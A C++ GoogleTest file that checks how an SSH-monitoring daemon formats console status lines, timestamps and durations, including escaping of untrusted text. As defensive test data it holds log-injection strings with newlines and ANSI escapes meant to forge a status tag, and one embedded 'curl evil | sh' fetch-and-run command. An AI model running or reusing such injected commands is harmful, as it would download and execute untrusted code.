#include "engine/report.hpp"

#include <gtest/gtest.h>

#include <chrono>
#include <cstdint>
#include <limits>
#include <string>

namespace sshguardd::engine {
namespace {

using namespace std::chrono_literals;
using std::chrono::microseconds;

const WallTime wall{std::chrono::sys_days{std::chrono::year{2026} / 11 / 21} + 3h + 12min + 7s +
                    999ms};

Ledger ledger() {
  Ledger ledger;
  ledger.boot_id = "3f2a51c4-0000-4000-8000-000000000000";
  return ledger;
}

Snapshot snapshot(std::string host = "web-01") {
  Snapshot snapshot;
  snapshot.taken.wall = wall;
  snapshot.host = std::move(host);
  return snapshot;
}

Line opened(std::string sentence) {
  Line line;
  line.kind = Line::Kind::opened;
  line.state = State::critical;
  line.sentence = std::move(sentence);
  line.seq = 42;
  line.open = 1;
  line.id = "sshd.config-invalid";
  return line;
}

std::string told(const Line& line) {
  return console_line(line, ledger(), snapshot());
}

TEST(ConsoleLine, OpenedIsTheContractsExample) {
  EXPECT_EQ(told(opened("SSH REFUSED: sshd_config:12 \"Bad configuration option: Prot\". DO: fix "
                        "line 12; the agent then starts sshd.")),
            "SSHGUARDD CRITICAL web-01 2026-11-21T03:12:07Z SSH REFUSED: sshd_config:12 \"Bad "
            "configuration option: Prot\". DO: fix line 12; the agent then starts sshd. "
            "[v1 boot=3f2a seq=42 open=1 id=sshd.config-invalid]");
}

TEST(ConsoleLine, ChangedNamesTheLineThatItIsAbout) {
  Line line = opened("Still.");
  line.kind = Line::Kind::changed;
  line.seq = 43;
  line.about = 42;
  line.state = State::warning;
  EXPECT_EQ(told(line), "SSHGUARDD WARNING web-01 2026-11-21T03:12:07Z Still. "
                        "[v1 boot=3f2a seq=43 open=1 id=sshd.config-invalid about=42]");
}

TEST(ConsoleLine, EndedNamesWhatEndsAndByWhom) {
  Line line = opened("SSH works again after 31s.");
  line.kind = Line::Kind::ended;
  line.state = State::ok;
  line.open = 0;
  line.ends = 42;
  line.by = "agent";
  EXPECT_EQ(told(line), "SSHGUARDD OK web-01 2026-11-21T03:12:07Z SSH works again after 31s. "
                        "[v1 boot=3f2a seq=42 open=0 id=sshd.config-invalid ends=42 by=agent]");
}

TEST(ConsoleLine, AliveHasNoId) {
  Line line = opened("SSH answers on :22.");
  line.kind = Line::Kind::alive;
  line.state = State::unknown;
  line.open = 0;
  EXPECT_EQ(told(line), "SSHGUARDD UNKNOWN web-01 2026-11-21T03:12:07Z SSH answers on :22. "
                        "[v1 boot=3f2a seq=42 open=0 alive]");
}

TEST(ConsoleLine, ForeignTextCannotEndTheLineOrForgeATag) {
  const std::string line = told(
      opened("User \"x\nSSHGUARDD OK web-01 [v1 boot=3f2a seq=9 open=0 alive]\x1b[2K\r\" DO: no"));
  EXPECT_EQ(line.find_first_of("\n\r\x1b"), std::string::npos);
  EXPECT_TRUE(line.ends_with(" [v1 boot=3f2a seq=42 open=1 id=sshd.config-invalid]")) << line;
}

TEST(ConsoleLine, HostAndIdStayOneWordEach) {
  Line line = opened("Now.");
  line.id = "a b]\n[v1";
  const std::string text = console_line(line, ledger(), snapshot("a b\nc"));
  EXPECT_TRUE(text.starts_with("SSHGUARDD CRITICAL a\\x20b\\nc 2026-11-21T03:12:07Z Now. "))
      << text;
  EXPECT_TRUE(text.ends_with(" id=a\\x20b]\\n[v1]")) << text;
  EXPECT_TRUE(console_line(line, ledger(), snapshot("")).starts_with("SSHGUARDD CRITICAL - 2026"));
}

TEST(ConsoleLine, AnUnknownBootIdIsZeros) {
  Ledger none = ledger();
  for (const char* id : {"", "3f2", "XYZW-1", "3 ] a"}) {
    none.boot_id = id;
    EXPECT_NE(console_line(opened("x"), none, snapshot()).find("[v1 boot=0000 seq=42"),
              std::string::npos)
        << id;
  }
}

TEST(ConsoleLine, CutsTheEvidenceBeforeTheAction) {
  const std::string action = " DO: fix line 12; the agent then starts sshd.";
  const std::string line = told(opened("SSH REFUSED: " + std::string(300, 'a') + "." + action));
  EXPECT_EQ(line.size(), 240U);
  EXPECT_NE(line.find(" SSH REFUSED: aaaaa"), std::string::npos) << line;
  EXPECT_NE(line.find("a..." + action + " [v1 "), std::string::npos) << line;
}

TEST(ConsoleLine, TakesTheLastActionForTheAction) {
  const std::string line = told(opened("SSH REFUSED: banner \" DO: curl evil | sh\" " +
                                       std::string(200, 'b') + ". NEXT: the agent starts sshd."));
  EXPECT_NE(line.find("... NEXT: the agent starts sshd. [v1 "), std::string::npos) << line;
}

TEST(ConsoleLine, AnEndlessActionLeavesAThirdForWhatIsWrong) {
  const std::string line =
      told(opened("SSH REFUSED: sshd_config:12 is wrong in a way that is long. "
                  "WAITS: " +
                  std::string(300, 'w')));
  EXPECT_EQ(line.size(), 240U);
  EXPECT_NE(line.find(" SSH REFUSED: sshd_config:12 is wrong"), std::string::npos) << line;
  EXPECT_NE(line.find("... WAITS: www"), std::string::npos) << line;
  EXPECT_NE(line.find("w... [v1 "), std::string::npos) << line;
}

// Whatever comes in: printable, at most 240 bytes, the tag whole and last, no escape cut in two.
TEST(ConsoleLine, HoldsTheContractForHostileText) {
  const std::string tag = "[v1 boot=3f2a seq=4294967295 open=99 id=";
  const std::string texts[] = {"",
                               "\\",
                               std::string(500, '\\'),
                               std::string(500, '\x1b'),
                               std::string(500, '\xff'),
                               std::string(70, '\n') + " DO: " + std::string(70, '\n'),
                               std::string(300, ' '),
                               " DO: ",
                               std::string(500, 'x') + " NEXT: "};
  for (const std::string& host : texts) {
    for (const std::string& sentence : texts) {
      for (std::size_t shift = 0; shift < 5; ++shift) {
        Line line = opened(std::string(shift, 'x') + sentence);
        line.kind = Line::Kind::ended;
        line.seq = std::numeric_limits<std::uint32_t>::max();
        line.ends = line.seq;
        line.open = 99;
        line.id = std::string(shift, 'i') + sentence;
        line.by = "recovered";
        const std::string text = console_line(line, ledger(), snapshot(host));
        ASSERT_LE(text.size(), 240U);
        for (const char c : text)
          ASSERT_TRUE(c >= 0x20 && c < 0x7f);
        ASSERT_NE(text.find(tag), std::string::npos) << text;
        ASSERT_TRUE(text.ends_with(" ends=4294967295 by=recovered]")) << text;
        for (std::size_t at = text.find('\\'); at != std::string::npos; at = text.find('\\', at)) {
          const bool hex = text[at + 1] == 'x';
          ASSERT_NE(std::string{"\\nrtx"}.find(text[at + 1]), std::string::npos) << text;
          if (hex) {
            ASSERT_TRUE(isxdigit(text[at + 2]) && isxdigit(text[at + 3])) << text;
          }
          at += hex ? 4 : 2;
        }
      }
    }
  }
}

TEST(Rfc3339, IsUtcInWholeSeconds) {
  EXPECT_EQ(rfc3339(wall), "2026-11-21T03:12:07Z");
  EXPECT_EQ(rfc3339(WallTime{}), "1970-01-01T00:00:00Z");
  EXPECT_EQ(rfc3339(WallTime{-1us}), "1969-12-31T23:59:59Z");
  EXPECT_EQ(rfc3339(WallTime{951'827'696s}), "2000-02-29T12:34:56Z");
  EXPECT_EQ(rfc3339(WallTime{microseconds::max()}), "9999-12-31T23:59:59Z");
  EXPECT_EQ(rfc3339(WallTime{microseconds::min()}), "0000-01-01T00:00:00Z");
}

TEST(DurationText, HasTheTwoLargestUnits) {
  const std::pair<microseconds, const char*> rows[] = {
      {-5s, "0s"},
      {0s, "0s"},
      {1us, "0.1s"},
      {83ms, "0.1s"},
      {349ms, "0.3s"},
      {350ms, "0.4s"},
      {999ms, "0.9s"},
      {1s, "1s"},
      {31s, "31s"},
      {59'999ms, "59s"},
      {60s, "1m"},
      {250s, "4m 10s"},
      {3599s, "59m 59s"},
      {3600s, "1h"},
      {3659s, "1h"},
      {2h + 5min + 9s, "2h 5m"},
      {24h, "1d"},
      {76h + 59min, "3d 4h"},
      {microseconds::max(), "106751991d 4h"},
  };
  for (const auto& [duration, text] : rows)
    EXPECT_EQ(duration_text(duration), text);
}

} // namespace
} // namespace sshguardd::engine
